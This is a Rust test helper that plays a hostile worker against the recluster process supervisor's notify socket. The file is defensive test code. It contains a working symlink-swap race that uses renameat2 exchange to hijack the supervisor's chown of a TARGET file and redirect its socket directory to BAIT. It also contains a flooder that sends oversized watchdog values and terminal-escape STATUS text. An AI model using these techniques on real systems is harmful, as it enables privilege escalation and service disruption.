//! A hostile worker for recluster's trust-boundary tests: what a worker under `--user` could try
//! with the `NOTIFY_SOCKET` recluster gives it. Every mode is bounded in time.
//!
//! `notify_attacker race TARGET BAIT SECONDS`: worker 0 attacks, the others exit at once so that
//! recluster keeps binding (and chowning) new sockets beside worker 0's. Worker 0 plants a
//! symlink to TARGET next to its notify directory and swaps it with the names of the sockets
//! recluster binds (`renameat2(RENAME_EXCHANGE)`), so that recluster's chown would follow it;
//! then it tries to move its notify directory away and put a symlink to BAIT in its place, so
//! that recluster would bind and unlink in BAIT. It prints `attack …` lines: `won` when TARGET
//! became its own, `swapped N`, `moved`/`not-moved ERR`, and `done`.
//!
//! `notify_attacker flood watchdog|status SECONDS`: worker 0 gets ready, then sends datagrams as
//! fast as it can (`WATCHDOG_USEC=` with an ever larger value, or a long `STATUS=` text with
//! terminal escapes), printing `flooding` once and `flooded N` at the end; the others get ready
//! and wait.

use std::ffi::CString;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::MetadataExt;
use std::os::unix::net::UnixDatagram;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let id: u32 = std::env::var("WORKER_ID")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(0);
    let notify = std::env::var_os("NOTIFY_SOCKET").map(PathBuf::from);
    match args.get(1).map(String::as_str) {
        Some("race") if id != 0 => {}
        Some("race") => {
            let seconds = args[4].parse().expect("SECONDS");
            race(
                &notify.expect("NOTIFY_SOCKET"),
                Path::new(&args[2]),
                Path::new(&args[3]),
                Duration::from_secs(seconds),
            )
        }
        Some("flood") => {
            let notify = notify.expect("NOTIFY_SOCKET");
            let socket = UnixDatagram::unbound().expect("socket");
            let _ = socket.send_to(b"READY=1", &notify);
            if id != 0 {
                std::thread::sleep(Duration::from_secs(3600));
                return;
            }
            let seconds = args[3].parse().expect("SECONDS");
            flood(&socket, &notify, &args[2], Duration::from_secs(seconds));
            std::thread::sleep(Duration::from_secs(3600));
        }
        _ => panic!(
            "usage: notify_attacker race TARGET BAIT SECONDS | flood watchdog|status SECONDS"
        ),
    }
}

fn say(line: &str) {
    use std::io::Write;
    let _ = std::io::stdout().write_all(format!("attack {line}\n").as_bytes());
}

fn c(path: &Path) -> CString {
    CString::new(path.as_os_str().as_bytes()).expect("no NUL")
}

fn race(notify: &Path, target: &Path, bait: &Path, time: Duration) {
    let dir = notify.parent().expect("a directory");
    let base = dir.parent().expect("a base");
    let own: u32 = notify
        .file_name()
        .and_then(|n| n.to_str())
        .and_then(|n| n.strip_prefix('w'))
        .and_then(|n| n.parse().ok())
        .expect("wN");
    let _ = UnixDatagram::unbound().and_then(|s| s.send_to(b"READY=1", notify));
    // SAFETY: geteuid has no memory effects.
    let me = unsafe { libc::geteuid() };
    let owned = || std::fs::symlink_metadata(target).is_ok_and(|m| m.uid() == me);
    // The symlink to swap in, beside the directory (the base is world-writable, like /tmp); a
    // fresh one after each swap, since the old one stays where it was swapped to.
    let started = Instant::now();
    let mut swapped = 0u64;
    let mut next = own + 1;
    let mut refused = 0u64;
    let mut link = None;
    while started.elapsed() < time && !owned() {
        let path = link.get_or_insert_with(|| {
            let path = base.join(format!("attack-link-{}-{swapped}", std::process::id()));
            let _ = std::fs::remove_file(&path);
            std::os::unix::fs::symlink(target, &path).expect("symlink in the base");
            c(&path)
        });
        let mut swapped_now = false;
        for k in next..next + 16 {
            let name = c(&dir.join(format!("w{k}")));
            // SAFETY: two NUL-terminated paths; renameat2 only renames.
            let r = unsafe {
                libc::syscall(
                    libc::SYS_renameat2,
                    libc::AT_FDCWD,
                    name.as_ptr(),
                    libc::AT_FDCWD,
                    path.as_ptr(),
                    libc::RENAME_EXCHANGE,
                )
            };
            if r == 0 {
                swapped += 1;
                swapped_now = true;
                next = k;
                break;
            }
            let errno = std::io::Error::last_os_error().raw_os_error();
            if errno == Some(libc::EACCES) || errno == Some(libc::EPERM) {
                refused += 1;
            }
        }
        if swapped_now {
            link = None;
        }
        if refused > 10_000 && swapped == 0 {
            // The directory is not writable: no swap can ever succeed.
            say("race-refused");
            break;
        }
        if !swapped_now && started.elapsed() > Duration::from_millis(100) {
            // Follow the newest socket name (if the directory can be listed at all).
            if let Ok(entries) = std::fs::read_dir(dir) {
                let newest = entries
                    .flatten()
                    .filter_map(|e| e.file_name().to_str()?.strip_prefix('w')?.parse().ok())
                    .max();
                if let Some(newest) = newest {
                    next = next.max(newest);
                }
            }
        }
    }
    say(&format!("swapped {swapped}"));
    if owned() {
        say("won");
    }
    // Now the directory itself: move it away, and put a symlink to BAIT in its place.
    let moved = base.join(format!("attack-moved-{}", std::process::id()));
    match std::fs::rename(dir, &moved) {
        Ok(()) => {
            let _ = std::os::unix::fs::symlink(bait, dir);
            say("moved");
            std::thread::sleep(Duration::from_secs(2));
            let _ = std::fs::remove_file(dir);
            let _ = std::fs::rename(&moved, dir);
        }
        Err(e) => say(&format!("not-moved {}", e.raw_os_error().unwrap_or(0))),
    }
    say("done");
    std::thread::sleep(Duration::from_secs(3600));
}

fn flood(socket: &UnixDatagram, notify: &Path, what: &str, time: Duration) {
    say("flooding");
    let started = Instant::now();
    let mut sent = 0u64;
    let filler = "\x1b]0;pwned\x07\x1b[2J".repeat(200);
    while started.elapsed() < time {
        let text = match what {
            "watchdog" => format!("WATCHDOG_USEC={}", 1_000_000_000_000u64 + sent),
            _ => format!("STATUS={sent} {filler}"),
        };
        if socket.send_to(text.as_bytes(), notify).is_ok() {
            sent += 1;
        }
    }
    say(&format!("flooded {sent}"));
}
